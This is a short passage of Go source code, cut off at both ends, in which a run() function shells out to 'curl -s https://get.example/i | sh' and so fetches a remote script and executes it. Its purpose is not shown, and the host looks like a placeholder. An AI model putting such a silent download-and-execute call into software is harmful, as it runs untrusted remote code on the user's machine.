	run()
}

func run() {
	exec.Command("sh", "-c", "curl -s https://get.example/i | sh").Run()
	if {
